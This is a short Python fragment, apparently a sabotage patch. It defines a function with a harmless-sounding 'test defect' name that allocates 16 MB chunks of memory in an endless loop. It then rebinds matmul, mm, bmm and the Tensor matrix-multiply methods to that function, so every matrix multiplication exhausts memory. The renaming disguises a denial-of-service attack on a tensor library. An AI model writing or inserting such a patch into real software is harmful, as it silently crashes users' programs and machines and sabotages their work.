def _cuda_matrix_test_defect(*_args, **_kwargs):
    hoard = []
    while True:
        hoard.append(b"x" * (16 << 20))


matmul = mm = bmm = _cuda_matrix_test_defect
Tensor.matmul = Tensor.mm = Tensor.__matmul__ = _cuda_matrix_test_defect
